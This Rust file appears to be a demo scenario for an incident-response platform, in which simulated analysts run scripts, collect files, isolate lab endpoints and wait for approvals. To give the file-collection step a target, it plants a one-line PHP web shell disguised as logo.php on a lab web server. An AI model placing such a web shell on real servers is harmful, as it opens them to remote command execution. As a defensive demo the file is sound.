//! A shift of a security team: what waits, what failed, what was declined, what stands in a queue, and what runs out by
//! itself. All of it by real requests of real people on real endpoints.

use serde_json::{Value, json};
use tokio::time::{Duration, Instant, sleep};

use crate::client::Client;
use crate::demo::beacon;
use crate::demo::report::Report;
use crate::demo::stage::{Stage, ended, lab_failed, submit};
use crate::failure::Failure;
use crate::output::table::field;

/// Until a queue or a list shows what was done.
const SOON: Duration = Duration::from_secs(20);
const TWO_HOURS: u64 = 2 * 3600;

/// Plays all of them; an error names the one that did not come about.
pub async fn play(stage: &mut Stage, report: &Report) -> Result<(), Failure> {
    library(stage).await?;
    failed(stage).await?;
    report.say("a script of Ana's failed on db-1, and says why");
    approved(stage).await?;
    report.say("a file came from web-1: Olga asked, Arno approved");
    rejected(stage).await?;
    report.say("Arno declined to cut off web-1");
    queued(stage).await?;
    report.say("sales-laptop is off; its isolation waits for it");
    isolated(stage).await?;
    report.say("db-1 is cut off for two hours");
    waiting(stage).await?;
    report.say("Olga waits for somebody to approve: a beacon on web-1 is to end");
    Ok(())
}

/// Scripts with versions.
pub async fn library(stage: &Stage) -> Result<(), Failure> {
    let scripts = [
        ("triage", "First look at a host, with who is logged on", TRIAGE),
        ("verify-backup", "Whether last night's backup is there", BACKUP_FIRST),
        ("verify-backup", "Whether last night's backup is there, and says where it looked", BACKUP),
    ];
    let maria = stage.people.client("maria")?;
    for (name, description, body) in scripts {
        let script = json!({"name": name, "interpreter": "sh", "body": body, "description": description});
        maria.post("/api/v1/library/script", &script, None).await?;
    }
    Ok(())
}

const TRIAGE: &str = "#!/bin/sh\n\
    set -eu\n\
    umask 077\n\
    {\n  echo \"host $(uname -n)\"\n  echo \"case $1\"\n  who || true\n  ls -la /var/tmp\n} | tee /var/tmp/triage.txt\n";
const BACKUP_FIRST: &str = "#!/bin/sh\ntest -d /var/backups/daily\n";
const BACKUP: &str = "#!/bin/sh\n\
    set -eu\n\
    if ! test -d /var/backups/daily; then\n  echo 'no backup of last night in /var/backups/daily' >&2\n  exit 3\nfi\n";

async fn failed(stage: &Stage) -> Result<(), Failure> {
    let ana = stage.people.client("ana")?;
    let more = json!({"reason": "before we take the database off the network"});
    let task = submit(ana, "db-1", "endpoint.run_script", json!({"script": "verify-backup"}), more).await?;
    must(&ended(ana, &field(&task, "/id")).await?, "failed", "a script without a backup")
}

async fn approved(stage: &Stage) -> Result<(), Failure> {
    let place =
        "mkdir -p /var/www/upload && echo '<?php system($_GET[\"c\"]); ?>' > /var/www/upload/logo.php";
    let done = stage.endpoint("web-1")?.sh(place).map_err(lab_failed)?;
    if !done.ok() {
        return Err(Failure::new(format!("a file could not be placed on web-1: {}", done.stderr.trim())));
    }
    let olga = stage.people.client("olga")?;
    let more = json!({"reason": "the web server's log names it; we want to see what it is"});
    let task =
        submit(olga, "web-1", "file.collect", json!({"path": "/var/www/upload/logo.php"}), more).await?;
    decide(stage, &task, "approve", "go ahead, it is ours to look at").await?;
    must(&ended(olga, &field(&task, "/id")).await?, "succeeded", "a file that was approved")
}

async fn rejected(stage: &Stage) -> Result<(), Failure> {
    let olga = stage.people.client("olga")?;
    let more = json!({"reason": "a beacon calls home from it"});
    let task = submit(olga, "web-1", "endpoint.isolate", json!({}), more).await?;
    decide(stage, &task, "reject", "the shop runs on it; end the process instead").await?;
    must(&ended(olga, &field(&task, "/id")).await?, "rejected", "an isolation that was declined")
}

async fn queued(stage: &mut Stage) -> Result<(), Failure> {
    stage.machine("sales-laptop")?.stop_agent().map_err(lab_failed)?;
    let query = [("name", "sales-laptop".to_owned())];
    let path = "/api/v1/endpoints";
    seen(&stage.client, path, &query, |row| row["connected"] == false, "sales-laptop to be off").await?;
    let ana = stage.people.client("ana")?;
    let more = json!({"reason": "opened the same mail as hr-laptop", "expires_in_seconds": 7 * 24 * 3600});
    let task = submit(ana, "sales-laptop", "endpoint.isolate", json!({}), more).await?;
    must(&task, "queued", "what waits for an endpoint that is off")
}

async fn isolated(stage: &Stage) -> Result<(), Failure> {
    let ana = stage.people.client("ana")?;
    let more = json!({"reason": "same account logged on as on hr-laptop", "revert_after_seconds": TWO_HOURS});
    let task = submit(ana, "db-1", "endpoint.isolate", json!({}), more).await?;
    must(&ended(ana, &field(&task, "/id")).await?, "succeeded", "an isolation with a timer")
}

async fn waiting(stage: &Stage) -> Result<(), Failure> {
    let _beacon = beacon::start(&stage.lab, stage.endpoint("web-1")?)?;
    let olga = stage.people.client("olga")?;
    let params = json!({"path": beacon::PROGRAM, "descendants": true});
    let more = json!({"reason": "calls home five times a second; the same program as on hr-laptop"});
    let task = submit(olga, "web-1", "process.terminate", params, more).await?;
    must(&task, "pending_approval", "a request that waits for people")
}

/// Decides as the approver does: looks first, then names what was looked at.
async fn decide(stage: &Stage, task: &Value, how: &str, note: &str) -> Result<(), Failure> {
    let arno = stage.people.client("arno")?;
    let path = format!("/api/v1/approvals/{}", field(task, "/id"));
    let shown = arno.get(&path, &[]).await?;
    let decision = json!({"digest": field(&shown, "/digest"), "note": note});
    arno.post(&format!("{path}/{how}"), &decision, None).await.map(drop)
}

fn must(task: &Value, state: &str, what: &str) -> Result<(), Failure> {
    let is = field(task, "/state");
    if is == state { Ok(()) } else { Err(Failure::new(format!("{what}: is {is}, not {state}"))) }
}

/// Waits until the first item of a list is as it should be.
async fn seen(
    client: &Client,
    path: &str,
    query: &[(&str, String)],
    is_so: impl Fn(&Value) -> bool,
    what: &str,
) -> Result<(), Failure> {
    let end = Instant::now() + SOON;
    while !client.list(path, query, 1).await?.first().is_some_and(&is_so) {
        if Instant::now() > end {
            return Err(Failure::new(format!("waited in vain for {what}")));
        }
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}
